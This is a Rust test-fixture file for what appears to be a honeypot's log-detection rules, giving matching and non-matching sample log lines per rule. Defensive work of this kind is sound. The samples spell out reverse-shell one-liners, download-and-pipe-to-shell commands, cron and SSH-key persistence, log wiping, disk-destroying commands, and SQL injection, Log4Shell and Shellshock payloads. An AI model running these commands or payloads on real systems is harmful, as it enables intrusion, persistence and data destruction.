//! For each shipped rule, lines that it must hit and lines that it must not.

/// Name, hits, misses.
pub(crate) const CASES: &[(&str, &[&str], &[&str])] = &[
    (
        "decoy-credential",
        &[
            r#"<134>1 2026-06-20T14:03:07+00:00 SRV-DELTA-77 auth-helper - auth_attempt [relay@55555 username="root" principal="root" secret_printable="hunter2" secret_b64="aHVudGVyMg==" src_ip="203.0.113.44"]"#,
            r#"<134>1 2026-06-20T14:03:07+00:00 omega-decky http - request [relay@55555 method="POST" path="/x" body="log=a" principal="ad\"min" secret_kind="plaintext" secret_printable="p\]w" secret_b64="cA=="]"#,
        ],
        &[
            r#"<134>1 2026-06-20T14:03:07+00:00 relay-decky ftp - connection [relay@55555 src_ip="2001:db8::7" username="x"]"#,
            r#"username="root" secret_b64="aHVudGVyMg==""#,
        ],
    ),
    (
        "ssh-failed-login",
        &[
            "<38>1 2026-06-20T14:03:05+00:00 omega-decky sshd 940 - -  Failed password for root from 203.0.113.44 port 42772 ssh2",
            "Failed password for invalid user a b from 2001:db8::7 port 1 ssh2",
            "Failed publickey for git from 10.0.0.1 port 5 ssh2: RSA SHA256:x",
        ],
        &[
            "Accepted password for root from 203.0.113.44 port 42772 ssh2",
            "Failed password for root",
        ],
    ),
    (
        "ssh-accepted-login",
        &[
            "Accepted password for root from 203.0.113.44 port 42772 ssh2",
            "Accepted keyboard-interactive/pam for u from ::1 port 1 ssh2",
        ],
        &[
            "Accepted connection from 10.0.0.1",
            "Failed password for root from 203.0.113.44 port 42772 ssh2",
        ],
    ),
    (
        "ssh-invalid-user",
        &[
            "Invalid user admin from 203.0.113.44 port 4000",
            "Invalid user  from 203.0.113.44",
        ],
        &[
            "Failed password for invalid user admin from 203.0.113.44 port 1 ssh2",
            "Invalid username",
        ],
    ),
    (
        "pam-authentication-failure",
        &[
            "sudo 1211 - -  pam_unix(sudo:auth): authentication failure; logname=ubuntu uid=1000 euid=0 tty=/dev/pts/0",
        ],
        &[
            "pam_unix(sudo:session): session opened for user root",
            "authentication failure; logname=",
        ],
    ),
    (
        "ftp-failed-login",
        &[
            r#"Sat Jun 20 14:00:00 2026 [pid 3] [root] FAIL LOGIN: Client "203.0.113.44""#,
            "ftpd (203.0.113.44[203.0.113.44]) - USER root (Login failed): Incorrect password.",
            "USER admin: no such user found from 203.0.113.44",
            "(?@203.0.113.44) [WARNING] Authentication failed for user [root]",
            "530 Login incorrect.",
        ],
        &[
            r#"OK LOGIN: Client "203.0.113.44""#,
            "USER root: Login successful",
            "1530 Login incorrect",
        ],
    ),
    (
        "mail-failed-login",
        &[
            "warning: unknown[203.0.113.44]: SASL LOGIN authentication failed: UGFzc3dvcmQ6",
            "dovecot_login authenticator failed for (User) [203.0.113.44]: 535 Incorrect authentication data",
            "imap-login: Disconnected (auth failed, 1 attempts in 2 secs): user=<a>",
        ],
        &[
            "connect from unknown[203.0.113.44]",
            "SASL authentication successful",
        ],
    ),
    (
        "telnet-failed-login",
        &[
            "FAILED LOGIN (1) on '/dev/pts/0' FROM '203.0.113.44' FOR 'root', Authentication failure",
            "invalid password for 'root' on 'pts/0'",
            "LOGIN FAILURE FROM 203.0.113.44, root",
        ],
        &["root login on 'pts/0'", "FAILED LOGINS since boot"],
    ),
    (
        "database-failed-login",
        &[
            "1045 Access denied for user 'root'@'203.0.113.44' (using password: YES)",
            r#"FATAL:  password authentication failed for user "postgres""#,
            "-WRONGPASS invalid username-password pair or user is disabled.",
            "Login failed for user 'sa'. Reason: Password did not match",
        ],
        &[
            "Access granted for user 'root'@'localhost'",
            "password authentication for user postgres",
        ],
    ),
    (
        "web-login",
        &[
            r#"203.0.113.44 - - [20/Jun/2026:14:00:00 +0000] "POST /wp-login.php HTTP/1.1" 200 1"#,
            r#"http - request [relay@55555 method="POST" path="/admin/index.php" remote_addr="198.51.100.7"]"#,
            r#""POST /api/v1/signin HTTP/1.1""#,
        ],
        &[
            r#""GET /wp-login.php HTTP/1.1""#,
            r#"http - request [relay@55555 method="POST" path="/upload" remote_addr="198.51.100.7"]"#,
            r#""POST /search?q=/login HTTP/1.1""#,
        ],
    ),
    (
        "shell-command",
        &[
            "<14>1 2026-06-20T14:03:58+00:00 dmz-gateway bash - - -  CMD uid=0 user=root src=203.0.113.44 pwd=/tmp cmd=echo \"rm -rf *.sh\" | sh",
            "CMD uid=1000 user=a src=- pwd=/home/a b cmd=ls",
        ],
        &[
            "CMD [\"nginx\", \"-g\", \"daemon off;\"]",
            "(root) CMD (run-parts /etc/cron.hourly)",
        ],
    ),
    (
        "reverse-shell",
        &[
            "cmd=bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
            "cmd=nc -e /bin/sh 203.0.113.9 4444",
            "cmd=rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f",
            "python3 -c 'import socket,os;s=socket.socket();os.dup2(s.fileno(),0)'",
        ],
        &["nc -zv 10.0.0.1 22", "bash -i", "ls /dev/tty"],
    ),
    (
        "persistence",
        &[
            "cmd=echo ssh-rsa AAAA >> ~/.ssh/authorized_keys",
            "cmd=(crontab -l; echo '* * * * * /tmp/x') | crontab -",
            r#"redis - command [relay@55555 cmd="CONFIG" args="['SET', 'dir', '/var/spool/cron'\]"]"#,
        ],
        &["crontab: installing new crontab", "systemctl status ssh"],
    ),
    (
        "account-change",
        &[
            "cmd=useradd -m x",
            r#"command="sudo passwd root""#,
            "cmd=echo root:x | chpasswd",
        ],
        &["cmd=cat /etc/passwd", "Failed password for root"],
    ),
    (
        "covering-tracks",
        &[
            "cmd=history -c",
            "cmd=unset HISTFILE",
            "cmd=rm -rf /var/log/auth.log",
            "cmd=export HISTSIZE=0",
            "cmd=echo > /var/log/wtmp",
        ],
        &["cmd=history", "cmd=ls /var/log", "cmd=rm -rf /tmp/x"],
    ),
    (
        "looking-around",
        &[
            "cmd=uname -a",
            r#"command="cat /etc/passwd""#,
            "cmd=w; nproc",
            "cmd=ps aux",
        ],
        &["uname -a", "cmd=echo hello", r#"command="cd /etc""#],
    ),
    (
        "coin-miner",
        &[
            "/tmp/.x --pool stratum+tcp://pool.example:3333",
            "cmd=./XMRig -o pool",
        ],
        &["cmd=./determined", "geological stratum"],
    ),
    (
        "destruction",
        &[
            "cmd=rm -rf /",
            "cmd=rm -r -f /*",
            "cmd=dd if=/dev/zero of=/dev/sda",
            "query=\"DROP TABLE users\"",
            "cmd=mkfs.ext4 /dev/sdb1",
        ],
        &[
            "cmd=rm -rf /tmp/x",
            "cmd=rm -f /x",
            "cmd=dd if=a of=b",
            "dropping table",
        ],
    ),
    (
        "download",
        &[
            "cmd=wget http://198.51.100.7/x.sh -O /tmp/x",
            r#"command="curl -fsSL https://198.51.100.23/payload.sh -o /tmp/.x""#,
        ],
        &[
            r#"user_agent="curl/8.5.0" referer="http://x.example/""#,
            "cmd=wget --help",
            "cmd=curl localhost; echo http://x",
        ],
    ),
    (
        "download-into-shell",
        &[
            "cmd=curl -s http://203.0.113.9/m | bash",
            "cmd=wget -qO- http://x/y|sh",
            "cmd=bash <(curl -s http://x/y)",
            r#"cmd=sh -c "$(curl -fsSL http://x/y)""#,
        ],
        &[
            "cmd=curl -s http://x/y | grep z",
            "cmd=curl -s http://x/y -o f.sh",
        ],
    ),
    (
        "made-executable-and-run",
        &[
            "chmod +x /tmp/.x && nohup /tmp/.x --pool stratum+tcp://pool.example:3333 &",
            "cmd=chmod 777 x;./x",
            "cmd=chmod 0755 a; sh a",
        ],
        &["cmd=chmod +x /tmp/a", "cmd=chmod 644 a; ./b"],
    ),
    (
        "busybox-fetch",
        &[
            "cmd=/bin/busybox wget http://x/y",
            "cmd=tftp -g -r bot 203.0.113.9",
            "cmd=tftp 203.0.113.9 -c get bot",
            "ftpget -u anonymous",
        ],
        &["cmd=busybox ls", "tftp started"],
    ),
    (
        "encoded-payload",
        &[
            "cmd=echo aGk= | base64 -d | sh",
            r"cmd=echo -ne '\x7f\x45\x4c\x46' > a",
            "python3 -c 'import base64;exec(base64.b64decode(\"\"))'",
        ],
        &["cmd=base64 file", "echo -e hello"],
    ),
    (
        "file-captured",
        &[
            r#"<134>1 2026-06-20T14:03:07+00:00 omega-decky ssh - file_captured [relay@55555 sha256="00" src_ip="203.0.113.44"]"#,
        ],
        &[
            r#"<134>1 2026-06-20T14:03:07+00:00 omega-decky ssh - file_read [relay@55555 path="file_captured"]"#,
        ],
    ),
    (
        "scanner-tool",
        &[
            r#"user_agent="Mozilla/5.0 zgrab/0.x""#,
            r#""GET / HTTP/1.1" 200 1 "-" "Nmap Scripting Engine""#,
            "sqlmap/1.7",
        ],
        &["nmapped", r#"user_agent="curl/8.5.0""#],
    ),
    (
        "probed-path",
        &[
            r#""GET /.env HTTP/1.1" 404"#,
            r#"http - request [relay@55555 method="GET" path="/site/.git/config" remote_addr="x"]"#,
            r#""GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1""#,
        ],
        &[
            r#""GET /environment HTTP/1.1""#,
            r#"headers="/.env""#,
            r#""GET /x HTTP/1.1" 200 1 "http://a/.env""#,
        ],
    ),
    (
        "path-traversal",
        &[
            r#""GET /../../etc/passwd HTTP/1.1""#,
            "/cgi-bin/.%2e/%2e%2e/bin/sh",
            r"..\..\windows",
        ],
        &["/a/../b", "1...2", "/x/./y"],
    ),
    (
        "sql-injection",
        &[
            "id=1 UNION ALL SELECT 1,2",
            "id=1+union+select+1",
            "user=' or '1'='1",
            "q=%27%20OR%201=1",
            "id=1;SELECT pg_sleep(5)",
            "information_schema.tables",
        ],
        &["the union selected a leader", "it's or isn't", "sleep(x)"],
    ),
    (
        "log4shell",
        &[
            "${jndi:ldap://203.0.113.9/a}",
            "${${lower:j}ndi:rmi://x}",
            "${${::-j}ndi:x}",
        ],
        &["${HOME}", "jndi:ldap"],
    ),
    (
        "shellshock",
        &[
            r#"user_agent="() { :; }; /bin/bash -c id""#,
            "() { :;};echo",
        ],
        &["function f() { return; };", "() => {}"],
    ),
    (
        "ssh-probe",
        &[
            "Did not receive identification string from 203.0.113.44 port 1",
            "Bad protocol version identification 'GET / HTTP/1.1' from 203.0.113.44",
            "error: kex_exchange_identification: Connection closed by remote host",
            "Unable to negotiate with 203.0.113.44 port 1: no matching host key type found.",
        ],
        &["Connection closed by 203.0.113.44 port 1"],
    ),
    (
        "smtp-probe",
        &[
            "smtp - command cmd=VRFY root",
            "554 5.7.1 <a@b>: Relay access denied",
            "Relaying denied",
        ],
        &["VRFY", "access denied"],
    ),
    (
        "tls-probe",
        &[
            r#"<132>1 2026-06-20T14:03:07+00:00 win-02 rdp - tls_handshake_failed [relay@55555 src_ip="192.0.2.11"] [SSL: WRONG_VERSION_NUMBER]"#,
        ],
        &["tls_handshake_failed"],
    ),
];
